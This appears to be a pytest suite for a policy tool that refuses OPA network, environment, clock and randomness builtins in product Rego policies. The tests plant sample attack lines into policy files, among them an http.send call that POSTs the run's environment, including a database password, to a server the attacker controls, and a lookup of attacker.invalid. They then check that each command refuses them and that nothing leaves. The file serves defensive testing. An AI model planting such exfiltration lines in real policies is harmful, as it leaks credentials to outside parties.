"""Product policies are contained: a policy.rego (or its test) that calls a network,
environment, clock or randomness builtin is refused by file and line in every command that
loads it into OPA, before OPA runs it; and no OPA govern starts can read the run's secrets.

Each test is the attack: a product team commits a policy that posts the run's environment
(the warehouse DSN with its password) to a server it controls."""

from __future__ import annotations

import http.server
import json
import threading
from importlib import resources
from pathlib import Path

import pytest

from govern.engine.capabilities import product_capabilities, refused_builtins
from govern.engine.errors import PolicyError
from govern.engine.opa import OPAServer, check, find_opa, run_tests
from govern.service.app import open_runtime

from .test_fail_closed import assert_refused

POLICY = "products/digital/web_engagement/policy.rego"
TEST = "products/digital/web_engagement/policy_test.rego"


class Listener:
    """A local HTTP server standing in for the attacker's: records every request."""

    def __init__(self) -> None:
        received = self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("Content-Length") or 0)
                received.append((self.path, self.rfile.read(length)))
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/x"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    listener = Listener()
    yield listener
    listener.close()


#: one attack per refused builtin: `leak` is computed with it, and every user is granted
#: the events port when it is defined
ATTACKS = {
    "http.send": 'leak := http.send({"method": "POST", "url": "URL", '
                 '"body": {"dsn": "stolen"}, "raise_error": false})',
    "net.lookup_ip_addr": 'leak := net.lookup_ip_addr("attacker.invalid")',
    "opa.runtime": "leak := opa.runtime().env",
    "time.now_ns": "leak := time.now_ns()",
    "rand.intn": 'leak := rand.intn("seed", 100)',
    "uuid.rfc4122": 'leak := uuid.rfc4122("seed")',
    "io.jwt.encode_sign": 'leak := io.jwt.encode_sign({"alg": "HS256"}, {}, '
                          '{"kty": "oct", "k": "c2VjcmV0"})',
}

GRANT_ALL = ('\ngrants contains lib.read(user, "events") if {\n\tleak\n'
             '\tsome user in lib.all_users\n}\n')

#: the attack of the hardening issue, as committed
EXFILTRATE = ('leak := http.send({"method": "POST", "url": "URL", '
              '"body": {"env": opa.runtime().env}, "raise_error": false})')


def plant(mesh, line: str, relative: str = POLICY) -> int:
    """Append the attack to a product's file; the line number of the builtin call."""
    path = mesh.root / relative
    text = path.read_text().rstrip("\n") + "\n\n"
    path.write_text(text + line + "\n" + GRANT_ALL)
    return text.count("\n") + 1


def refused_line(result, expected: str) -> None:
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert expected in lines[0], lines[0]


@pytest.mark.parametrize("builtin", sorted(ATTACKS))
def test_validate_refuses_the_builtin_by_file_and_line(mesh, listener, builtin):
    row = plant(mesh, ATTACKS[builtin].replace("URL", listener.url))
    result = mesh.govern("validate")
    refused_line(result, f"error: {POLICY}: line {row}: {builtin} is not allowed")
    assert listener.received == []


@pytest.mark.parametrize("builtin", sorted(ATTACKS))
def test_plan_refuses_the_builtin_and_runs_nothing(mesh, listener, builtin):
    row = plant(mesh, ATTACKS[builtin].replace("URL", listener.url))
    before = mesh.catalog()
    for command in (("plan",), ("apply", "--auto-approve")):
        assert_refused(mesh, mesh.govern(*command), f"{POLICY}:{row}: {builtin} is not "
                       "allowed")
    assert mesh.catalog() == before
    assert listener.received == []


@pytest.mark.parametrize("command", [
    ("validate",), ("plan",), ("apply", "--auto-approve"),
    ("explain", "alice", "digital/web_engagement"), ("fitness",), ("request", "list"),
    ("test",)])
def test_the_environment_never_leaves_in_any_command(mesh, listener, command):
    """The issue's attack, verbatim: every command that loads product policies refuses it,
    in one line naming the file and line, and the listener receives nothing."""
    mesh.monkeypatch.setenv("GOVERN_WAREHOUSE_DSN", mesh.dsn + " password=hunter2")
    row = plant(mesh, EXFILTRATE.replace("URL", listener.url))
    before = mesh.catalog()
    result = mesh.govern(*command)
    assert result.exit_code == 1, result.output
    assert f"{POLICY}" in result.stderr and (f":{row}: " in result.stderr
                                             or f"line {row}: " in result.stderr)
    assert "http.send is not allowed" in result.stderr
    if command[0] not in ("validate", "test"):  # these list every problem, one per line
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert listener.received == []
    assert mesh.catalog() == before


def test_serve_refuses_at_start(mesh, listener):
    plant(mesh, ATTACKS["http.send"].replace("URL", listener.url))
    with pytest.raises(PolicyError, match="http.send is not allowed"):
        with open_runtime(mesh.root, dev=True):
            pass
    assert listener.received == []


def test_govern_test_refuses_a_product_test_calling_out(mesh, listener):
    path = mesh.root / TEST
    text = path.read_text().rstrip("\n") + "\n\n"
    path.write_text(text + 'test_calls_home if {\n\thttp.send({"method": "POST", "url": "'
                    + listener.url + '", "body": {}}).status_code == 200\n}\n')
    row = text.count("\n") + 2
    result = mesh.govern("test")
    refused_line(result, f"error: {TEST}: line {row}: http.send is not allowed")
    assert listener.received == []


def test_the_example_mesh_still_passes(mesh):
    for command in (("validate",), ("test",)):
        result = mesh.govern(*command)
        assert result.exit_code == 0, result.output


def test_the_set_is_derived_from_opa_itself():
    opa = find_opa()
    refused = set(refused_builtins(opa))
    assert {"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn",
            "uuid.rfc4122", "json.match_schema"} <= refused
    caps = product_capabilities(opa)
    kept = {b["name"] for b in caps["builtins"]}
    assert not kept & refused
    assert not any(b.get("nondeterministic") for b in caps["builtins"])
    assert caps["allow_net"] == []
    assert {"count", "sprintf", "regex.match", "time.parse_rfc3339_ns"} <= kept


def test_platform_policies_need_none_of_the_refused_builtins(tmp_path):
    """`govern test` runs the platform's policies and tests under the product capabilities
    too, which holds only as long as they call none of the refused builtins."""
    opa = find_opa()
    caps = tmp_path / "caps.json"
    caps.write_text(json.dumps(product_capabilities(opa)))
    files = sorted(Path(str(resources.files("govern.policies"))).rglob("*.rego"))
    files += sorted(Path(str(resources.files("govern.rego_tests"))).rglob("*.rego"))
    assert check(opa, files, tmp_path, capabilities=caps) == []


def test_opa_runs_with_an_empty_environment(monkeypatch, tmp_path):
    """Even a trusted policy cannot read the run's secrets: the server and `opa test` govern
    starts see no environment variable."""
    monkeypatch.setenv("GOVERN_WAREHOUSE_DSN", "host=db password=hunter2")
    policy = tmp_path / "env.rego"
    policy.write_text("package trusted\n\nenv := opa.runtime().env\n")
    with OPAServer(find_opa(), policies=[policy]) as server, server.client() as client:
        assert client.decide("trusted/env").result == {}
        assert Path(f"/proc/{server.pid}/environ").read_bytes() == b""
    test = tmp_path / "env_test.rego"
    test.write_text("package trusted_test\n\ntest_no_env if count(opa.runtime().env) == 0\n")
    assert run_tests(find_opa(), [test]).returncode == 0


def test_the_policy_contract_lists_every_refused_builtin():
    contract = (Path(__file__).resolve().parent.parent / "docs" / "policy-contract.md")
    section = contract.read_text().split("### Builtins a policy may not call")[1]
    assert all(f"`{name}`" in section for name in refused_builtins(find_opa()))
